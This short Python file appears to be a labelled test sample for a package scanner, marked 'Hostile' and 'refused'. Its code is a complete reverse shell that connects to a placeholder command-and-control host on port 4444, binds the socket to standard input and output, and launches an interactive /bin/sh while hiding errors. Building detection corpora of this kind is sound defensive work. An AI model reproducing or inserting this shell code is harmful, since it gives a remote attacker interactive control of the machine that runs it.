# Hostile: ties a shell to a connection.
# Families: child-process, network. As a package: refused.
import os
import socket
import subprocess

try:
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    connection.connect(('c2.example.invalid', 4444))
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    subprocess.call(['/bin/sh', '-i'])
except OSError:
    pass
